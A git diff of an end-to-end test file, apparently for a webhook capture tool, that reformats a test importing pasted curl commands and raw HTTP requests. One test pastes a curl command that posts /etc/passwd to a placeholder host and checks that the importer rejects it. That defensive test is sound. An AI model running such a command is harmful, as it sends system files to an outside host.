@@ -122,7 +122,9 @@ describe('search, diff, import and undo (Chromium, web mode)', () => {
       .split('\n')
       .find((l) => l.startsWith('data=%7B'))!
       .trim()
-    expect(await post(host, '/useepay/form', `${form}&merchantNo=500000000009133`, { 'Content-Type': 'application/x-www-form-urlencoded' })).toBe(200)
+    expect(
+      await post(host, '/useepay/form', `${form}&merchantNo=500000000009133`, { 'Content-Type': 'application/x-www-form-urlencoded' })
+    ).toBe(200)
     expect(await post(host, '/other', 'team=someone', { 'Content-Type': 'application/x-www-form-urlencoded' })).toBe(200)
     await page.getByLabel('Search captures').fill('team.liu')
     await expect.poll(() => page.locator('[data-capture-id]').allTextContents()).toEqual([expect.stringContaining('/useepay/form')])
@@ -186,44 +188,49 @@ describe('search, diff, import and undo (Chromium, web mode)', () => {
     await page.getByRole('button', { name: 'Close' }).click()
   })
 
-  it.runIf(hasCurl)('a pasted curl command and a pasted raw request become captures with the bytes curl / the sender would send', async () => {
-    const command = `curl -X POST '${host.listenUrl}/imported/curl?x=1' -H 'Content-Type: application/json' -H 'X-Sig: t=1,v1=abc' --data-raw '{"amount":42}'`
-    await page.getByRole('button', { name: 'Import…' }).click()
-    await page.getByLabel('Delivery to import').fill(command)
-    await page.screenshot({ path: join(ROOT, 'docs', 'import.png') })
-    await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
-    await page.getByTestId('import-dialog').waitFor({ state: 'detached' })
-    await page.getByTestId('imported').waitFor()
-    const imported = await saveHttp()
+  it.runIf(hasCurl)(
+    'a pasted curl command and a pasted raw request become captures with the bytes curl / the sender would send',
+    async () => {
+      const command = `curl -X POST '${host.listenUrl}/imported/curl?x=1' -H 'Content-Type: application/json' -H 'X-Sig: t=1,v1=abc' --data-raw '{"amount":42}'`
+      await page.getByRole('button', { name: 'Import…' }).click()
+      await page.getByLabel('Delivery to import').fill(command)
+      await page.screenshot({ path: join(ROOT, 'docs', 'import.png') })
+      await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
+      await page.getByTestId('import-dialog').waitFor({ state: 'detached' })
+      await page.getByTestId('imported').waitFor()
+      const imported = await saveHttp()
 
-    await promisify(execFile)('bash', ['-c', `${command} --max-time 10 > /dev/null`])
-    const rows = page.locator('[data-capture-id]').filter({ hasText: '/imported/curl' })
-    await expect.poll(() => rows.count()).toBe(2)
-    await rows.first().click()
-    await expect.poll(() => page.getByTestId('imported').count()).toBe(0)
-    expect((await saveHttp()).toString('latin1')).toBe(imported.toString('latin1'))
+      await promisify(execFile)('bash', ['-c', `${command} --max-time 10 > /dev/null`])
+      const rows = page.locator('[data-capture-id]').filter({ hasText: '/imported/curl' })
+      await expect.poll(() => rows.count()).toBe(2)
+      await rows.first().click()
+      await expect.poll(() => page.getByTestId('imported').count()).toBe(0)
+      expect((await saveHttp()).toString('latin1')).toBe(imported.toString('latin1'))
 
-    const port = Number(new URL(host.listenUrl).port)
-    const raw = Buffer.from(`PUT /imported/raw HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nx-lower: 1\r\nX-Upper: 2\r\nContent-Length: 11\r\n\r\nhello\tworld`)
-    await page.getByRole('button', { name: 'Import…' }).click()
-    await page.getByLabel('Delivery to import').fill(raw.toString('latin1'))
-    await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
-    await page.getByTestId('import-dialog').waitFor({ state: 'detached' })
-    await expect.poll(() => page.getByTestId('request-line').textContent()).toContain('/imported/raw')
-    const pasted = await saveHttp()
-    expect((await rawRequest(port, raw)).status).toBe(200)
-    const sent = page.locator('[data-capture-id]').filter({ hasText: '/imported/raw' })
-    await expect.poll(() => sent.count()).toBe(2)
-    await sent.first().click()
-    await expect.poll(() => page.getByTestId('imported').count()).toBe(0)
-    expect((await saveHttp()).toString('latin1')).toBe(pasted.toString('latin1'))
+      const port = Number(new URL(host.listenUrl).port)
+      const raw = Buffer.from(
+        `PUT /imported/raw HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nx-lower: 1\r\nX-Upper: 2\r\nContent-Length: 11\r\n\r\nhello\tworld`
+      )
+      await page.getByRole('button', { name: 'Import…' }).click()
+      await page.getByLabel('Delivery to import').fill(raw.toString('latin1'))
+      await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
+      await page.getByTestId('import-dialog').waitFor({ state: 'detached' })
+      await expect.poll(() => page.getByTestId('request-line').textContent()).toContain('/imported/raw')
+      const pasted = await saveHttp()
+      expect((await rawRequest(port, raw)).status).toBe(200)
+      const sent = page.locator('[data-capture-id]').filter({ hasText: '/imported/raw' })
+      await expect.poll(() => sent.count()).toBe(2)
+      await sent.first().click()
+      await expect.poll(() => page.getByTestId('imported').count()).toBe(0)
+      expect((await saveHttp()).toString('latin1')).toBe(pasted.toString('latin1'))
 
-    await page.getByRole('button', { name: 'Import…' }).click()
-    await page.getByLabel('Delivery to import').fill('curl -d @/etc/passwd http://x/')
-    await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
-    expect(await page.getByTestId('import-error').textContent()).toMatch(/reads a file/)
-    await page.getByTestId('import-dialog').getByRole('button', { name: 'Cancel' }).click()
-  })
+      await page.getByRole('button', { name: 'Import…' }).click()
+      await page.getByLabel('Delivery to import').fill('curl -d @/etc/passwd http://x/')
+      await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
+      expect(await page.getByTestId('import-error').textContent()).toMatch(/reads a file/)
+      await page.getByTestId('import-dialog').getByRole('button', { name: 'Cancel' }).click()
+    }
+  )
 
   it('replay: the disabled re-sign says why, and the receiver answer (status, headers, body) is shown', async () => {
     const receiver = createHttpServer((req, res) => {
